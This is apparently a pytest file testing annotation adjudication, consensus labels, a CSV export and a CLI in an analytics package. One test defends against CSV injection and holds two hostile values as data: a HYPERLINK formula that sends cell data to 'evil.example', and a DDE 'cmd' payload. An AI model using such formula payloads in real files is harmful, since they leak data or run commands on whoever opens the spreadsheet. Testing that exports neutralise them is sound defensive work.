"""Adjudication: disagreements, consensus with history and roles, the CSV export, training labels, the CLI."""

from __future__ import annotations

import io
import json

import pandas as pd
import pytest

from analytics.assessor import human_labels
from analytics.cli import main
from analytics.exceptions import InvalidInputError, NotFoundError, PermissionDeniedError
from analytics.judging import add_consensus, add_judgment, consensus_history, current_consensus, disagreements, export_judgments_csv, latest_judgments, training_labels
from analytics.judging.adjudication import EXPORT_COLUMNS
from analytics.judging.agreement import majority_vote
from analytics.team import User
from tests.fixtures.judgments import insert_suites, reregister

SUITE, OTHER = "suite-a", "suite-b"


def person(name: str, role: str) -> User:
    return User(name=name, role=role, disabled=False, locked_until="", created="")


@pytest.fixture
def workspace(models_workspace):
    """``model0`` … ``model5`` on two suites; on SUITE ana and ben disagree about model0 (with
    confidence and a note) and model2 (a tie), agree about model1; model3 has one judgment."""
    insert_suites(models_workspace, [SUITE, OTHER])
    for annotator, model, label, extra in [
        ("ana", "model0", "invariant", {"confidence": 0.9, "note": "green near, yellow far, fine"}),
        ("ben", "model0", "variant", {"note": "yellow band\nnear the diagonal"}),
        ("cy", "model0", "variant", {}),
        ("ana", "model1", "borderline", {}),
        ("ben", "model1", "borderline", {}),
        ("ana", "model2", "invariant", {}),
        ("ben", "model2", "borderline", {}),
        ("ana", "model3", "variant", {}),
    ]:
        add_judgment(models_workspace, annotator=annotator, model=model, label=label, suite_id=SUITE, **extra)
    add_judgment(models_workspace, annotator="ana", model="model1", label="variant", suite_id=OTHER)
    add_judgment(models_workspace, annotator="ben", model="model1", label="invariant", suite_id=OTHER)
    return models_workspace


def test_disagreements_lists_each_annotator_side_by_side(workspace):
    table = disagreements(workspace, SUITE).set_index("model")
    assert list(table.index) == ["model0", "model2"]  # model1 agreed, model3 has one judgment
    row = table.loc["model0"]
    assert (row["n_judgments"], row["majority"], row["has_consensus"], row["consensus"]) == (3, "variant", False, None)
    assert row["agreement"] == pytest.approx(2 / 3)
    assert (row["label:ana"], row["label:ben"], row["label:cy"]) == ("invariant", "variant", "variant")
    assert row["confidence:ana"] == pytest.approx(0.9) and pd.isna(row["confidence:ben"])
    assert row["note:ben"] == "yellow band\nnear the diagonal"
    assert pd.isna(table.loc["model2", "label:cy"])  # cy did not judge model2
    assert table.loc["model2", "majority"] == "borderline"  # a tie goes to the more cautious label
    assert list(disagreements(workspace, OTHER)["model"]) == ["model1"]  # judgments count per suite


def test_disagreements_follow_the_latest_current_judgments(workspace):
    add_judgment(workspace, annotator="ana", model="model0", label="variant", suite_id=SUITE)  # ana changes her mind
    add_judgment(workspace, annotator="ben", model="model1", label="variant", suite_id=SUITE)
    assert list(disagreements(workspace, SUITE)["model"]) == ["model1", "model2"]
    reregister(workspace, "model2", "other weights")  # its judgments are stale now
    assert list(disagreements(workspace, SUITE)["model"]) == ["model1"]
    insert_suites(workspace, ["empty"])
    assert disagreements(workspace, "empty").empty


def test_consensus_keeps_its_history_and_the_latest_counts(workspace):
    first = add_consensus(workspace, model="model0", suite_id=SUITE, label="borderline", reason="  both have a point ", adjudicator="lee")
    second = add_consensus(workspace, model="model0", suite_id=SUITE, label="variant", reason="the far band decides", adjudicator="lee")
    add_consensus(workspace, model="model1", suite_id=OTHER, label="invariant", reason="flat", adjudicator="max")
    assert second.id > first.id and first.reason == "both have a point" and first.model_key
    history = consensus_history(workspace, SUITE)
    assert list(history["label"]) == ["borderline", "variant"] and list(consensus_history(workspace, model="model1")["suite_id"]) == [OTHER]
    current = current_consensus(workspace, SUITE)
    assert current[["model", "label", "adjudicator"]].values.tolist() == [["model0", "variant", "lee"]]
    assert len(current_consensus(workspace)) == 2
    table = disagreements(workspace, SUITE).set_index("model")
    assert table.loc["model0", "has_consensus"] and table.loc["model0", "consensus"] == "variant"
    assert not table.loc["model2", "has_consensus"]
    reregister(workspace, "model0", "other weights")  # the consensus judged the old weights
    assert current_consensus(workspace, SUITE).empty and len(consensus_history(workspace, SUITE)) == 2


@pytest.mark.parametrize("role", ["annotator", "viewer"])
def test_consensus_is_refused_to_roles_that_may_not_adjudicate(workspace, role):
    acting = workspace.acting_as(person("pat", role))
    with pytest.raises(PermissionDeniedError, match=r"pat \(" + role + r"\) may not record consensus labels.*admin or analyst"):
        add_consensus(acting, model="model0", suite_id=SUITE, label="variant", reason="because", adjudicator="pat")
    assert consensus_history(workspace).empty


def test_signed_in_adjudicator_is_the_account_not_a_typed_name(workspace):
    acting = workspace.acting_as(person("lee", "analyst"))
    stored = add_consensus(acting, model="model0", suite_id=SUITE, label="variant", reason="because", adjudicator="someone else")
    assert stored.adjudicator == "lee" and list(consensus_history(workspace)["adjudicator"]) == ["lee"]


@pytest.mark.parametrize(
    ("changes", "error", "message"),
    [
        ({"reason": "   "}, InvalidInputError, "reason is required"),
        ({"adjudicator": ""}, InvalidInputError, "adjudicator is required"),
        ({"label": "maybe"}, InvalidInputError, "label must be one of"),
        ({"model": "nope"}, NotFoundError, "model 'nope'"),
        ({"suite_id": "nope"}, NotFoundError, "suite 'nope'"),
    ],
)
def test_consensus_refuses_bad_input(workspace, changes, error, message):
    arguments = {"model": "model0", "suite_id": SUITE, "label": "variant", "reason": "because", "adjudicator": "lee", **changes}
    with pytest.raises(error, match=message):
        add_consensus(workspace, **arguments)
    assert consensus_history(workspace).empty


def test_csv_export_round_trips_both_histories(workspace):
    add_judgment(workspace, annotator="ana", model="model0", label="borderline", suite_id=SUITE, note='changed, "on reflection"')
    add_consensus(workspace, model="model0", suite_id=SUITE, label="borderline", reason="a, b\nand c", adjudicator="lee")
    add_consensus(workspace, model="model0", suite_id=SUITE, label="variant", reason="later", adjudicator="lee")
    table = pd.read_csv(io.StringIO(export_judgments_csv(workspace)), keep_default_na=False, na_values=[""])
    assert list(table.columns) == EXPORT_COLUMNS
    judgments, consensus = table[table["record"] == "judgment"], table[table["record"] == "consensus"]
    assert len(judgments) == 11 and len(consensus) == 2
    assert consensus["reason"].tolist() == ["a, b\nand c", "later"] and consensus["counts"].tolist() == [False, True]
    assert consensus["annotator"].isna().all() and judgments["adjudicator"].isna().all()
    counting = judgments[judgments["counts"]]
    assert len(counting) == 10  # ana's first judgment of model0 was replaced
    assert 'changed, "on reflection"' in set(counting["note"])
    on_suite = latest_judgments(workspace, SUITE)
    assert sorted(counting.loc[counting["suite_id"] == SUITE, "id"]) == sorted(on_suite["id"])
    only_other = pd.read_csv(io.StringIO(export_judgments_csv(workspace, OTHER)))
    assert set(only_other["suite_id"]) == {OTHER} and set(only_other["record"]) == {"judgment"}


def test_export_judgments_neutralises_spreadsheet_formulas(workspace, capsys, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    add_judgment(workspace, annotator="ana", model="model4", label="variant", suite_id=SUITE, confidence=0.25, note=formula)
    add_consensus(workspace, model="model4", suite_id=SUITE, label="variant", reason="+cmd|' /C calc'!A0", adjudicator="lee")
    out = tmp_path / "export.csv"
    code, output = cli(["export-judgments", "--suite", SUITE, "--out", str(out), "--workspace", str(workspace.root), "--json"], capsys)
    assert code == 0 and json.loads(output)["consensus"] == 1
    table = pd.read_csv(out, keep_default_na=False, na_values=[""])
    row = table[table["model"] == "model4"].set_index("record")
    assert row.loc["judgment", "note"] == "'" + formula  # a spreadsheet shows it as text, runs nothing
    assert row.loc["consensus", "reason"] == "'+cmd|' /C calc'!A0"
    assert row.loc["judgment", "confidence"] == 0.25 and "green near, yellow far, fine" in set(table["note"])  # the rest as it was


def test_training_labels_are_the_majority_without_consensus(workspace):
    labels = training_labels(workspace, SUITE)
    pd.testing.assert_series_equal(labels, majority_vote(latest_judgments(workspace, SUITE)), check_names=False)
    assert labels["model2"] == "borderline"  # the tie goes to the more cautious label


def test_consensus_overrides_the_majority_in_what_the_assessor_learns(workspace):
    assert human_labels(workspace, SUITE)["model0"] == "variant"  # 2 of 3 say variant
    add_consensus(workspace, model="model0", suite_id=SUITE, label="invariant", reason="cy and ben misread the scale", adjudicator="lee")
    add_consensus(workspace, model="model4", suite_id=SUITE, label="borderline", reason="judged in the meeting", adjudicator="lee")
    labels = human_labels(workspace, SUITE)
    assert labels.to_dict() == {"model0": "invariant", "model1": "borderline", "model2": "borderline", "model3": "variant", "model4": "borderline"}
    assert training_labels(workspace, OTHER).to_dict() == {"model1": "variant"}  # consensus counts on its suite only


def cli(argv: list[str], capsys) -> tuple[int, str]:
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def test_cli_disagreements_consensus_and_export(workspace, capsys, tmp_path):
    root = ["--workspace", str(workspace.root)]
    code, output = cli(["disagreements", "--suite", SUITE, *root, "--json"], capsys)
    result = json.loads(output)
    assert code == 0 and [m["model"] for m in result["models"]] == ["model0", "model2"] and result["models"][0]["confidence:ben"] is None
    add = ["consensus", "add", "--suite", SUITE, "--model", "model2", "--label", "invariant", *root, "--json"]
    code, output = cli([*add, "--reason", "the matrices are flat", "--adjudicator", "lee"], capsys)
    assert code == 0 and json.loads(output)["adjudicator"] == "lee"
    code, output = cli([*add, "--reason", " "], capsys)
    assert code == 2 and output.startswith("error: reason is required") and output.count("\n") == 1
    code, output = cli(["consensus", "list", "--suite", SUITE, *root, "--json"], capsys)
    listed = json.loads(output)
    assert code == 0 and [(c["model"], c["label"]) for c in listed["consensus"]] == [("model2", "invariant")] and len(listed["history"]) == 1
    code, output = cli(["consensus", "list", "--suite", "nope", *root], capsys)
    assert code == 2 and "no suite 'nope'" in output
    out = tmp_path / "export.csv"
    code, output = cli(["export-judgments", "--suite", SUITE, "--out", str(out), *root, "--json"], capsys)
    assert code == 0 and json.loads(output)["judgments"] == 8 and json.loads(output)["consensus"] == 1
    assert pd.read_csv(out)["record"].value_counts().to_dict() == {"judgment": 8, "consensus": 1}
    code, output = cli(["export-judgments", "--out", str(tmp_path / "missing" / "x.csv"), *root], capsys)
    assert code == 2 and "does not exist" in output
